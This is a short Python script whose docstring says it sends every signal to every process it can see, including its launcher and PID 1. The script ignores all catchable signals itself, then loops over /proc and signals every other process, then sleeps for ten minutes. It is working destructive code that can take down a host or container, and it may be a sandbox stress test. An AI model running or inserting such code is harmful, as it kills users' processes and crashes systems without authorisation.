"""Sends every signal to every process it sees, the launcher and the first one among them."""

import os
import signal
import time

for number in sorted(set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}):
    signal.signal(number, signal.SIG_IGN)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) != os.getpid():
            try:
                os.kill(int(pid), number)
            except OSError:
                continue
time.sleep(600)
